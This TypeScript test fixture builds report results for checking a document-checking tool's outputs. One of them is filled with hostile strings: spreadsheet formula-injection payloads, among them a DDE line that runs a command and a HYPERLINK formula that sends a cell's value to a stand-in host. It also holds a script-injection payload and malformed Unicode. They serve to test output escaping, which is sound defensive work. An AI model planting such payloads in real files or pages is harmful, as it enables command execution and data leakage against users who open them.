/** Results for the tests of the outputs: the sample reports, generated batches, and one whose every text is hostile. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ReportResult } from '../../src/shared/outputs/contract.ts';
import { resultOf } from '../../src/shared/outputs/json.ts';
import type { Language } from '../../src/shared/rules/finding.ts';
import { generateReport } from '../generator/generate.ts';
import { plants } from '../generator/plant.ts';
import { Random } from '../generator/random.ts';
import { toTxt } from '../generator/render-txt.ts';
import { check, root } from './compare.ts';

/** All sample reports, and a file that cannot be read. */
export async function sampleResults(language: Language = 'zh-CN'): Promise<ReportResult[]> {
  const names = readdirSync(join(root, 'samples')).sort();
  const files = names.map((name) => ({ name, bytes: new Uint8Array(readFileSync(join(root, 'samples', name))) }));
  return Promise.all(
    [...files, { name: 'empty.docx', bytes: new Uint8Array() }].map(async ({ name, bytes }) =>
      resultOf(await check(bytes, name), `samples/${name}`, 'a1'.repeat(32), language),
    ),
  );
}

export interface GeneratedResult {
  readonly result: ReportResult;
  readonly text: string;
}

/** Generated text reports, every second one with a planted fault. */
export async function generatedResults(count: number): Promise<GeneratedResult[]> {
  const names = Object.keys(plants);
  const results: GeneratedResult[] = [];
  for (let seed = 1; seed <= count; seed++) {
    const model = generateReport({ seed: seed * 13 });
    const plant = seed % 2 === 0 ? plants[names[(seed / 2) % names.length] as string] : undefined;
    const text = toTxt(plant?.(model, new Random(seed))?.model ?? model, 'tab-lines');
    const outcome = await check(new TextEncoder().encode(text), 'report.txt');
    const file = `batch/${seed}.txt`;
    results.push({ text, result: resultOf(outcome, file, seed.toString(16).padStart(64, '0'), 'zh-CN') });
  }
  return results;
}

/** What a document, or a file's name, might hold to do harm where it is shown. */
export const hostileTexts = [
  '=HYPERLINK("http://example.invalid/?"&A1,"点此")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '</style><script>alert(1)</script><img src=x onerror=alert(2)>',
  '"; } body { display: none } \\',
  '半截\uD800代理 \u0000\u0007 \u202E反向',
  '换\n行,逗号"引号"',
] as const;

/** A report of one finding for each hostile text, which stands wherever a document's text can stand. */
export function hostileResult(): ReportResult {
  const location = { line: 1, column: 1, start: 0, end: 4 };
  const [first] = hostileTexts;
  return {
    file: `a/${hostileTexts.join('')}.txt`,
    sha256: 'b2'.repeat(32),
    format: 'txt',
    status: 'checked',
    error: null,
    problems: [{ code: 'damaged', message: first, location }],
    unit: hostileTexts.join(''),
    year: 2023,
    edition: '2021',
    sections: [{ id: 'overview', title: first, location }],
    tables: {
      proactive: Object.fromEntries(
        hostileTexts.map((raw, index) => [`fees.${index + 1}`, { amount: { value: null, raw, location } }]),
      ),
    },
    checks: { passed: 1, failed: 1, notAssessable: 0 },
    findings: hostileTexts.map((text, index) => ({
      rule: 'cell.not-a-number',
      severity: 'error',
      message: text,
      section: 'overview',
      cells: [text],
      expected: 1,
      actual: -1,
      suspects: [{ cell: 'proactive.fees.amount', from: -2, to: 3, location }],
      quote: text,
      basis: text,
      location,
      places: [location],
      gap: { side: 'after', title: text, holds: text },
      fingerprint: index.toString(16).padStart(14, '0'),
    })),
  };
}
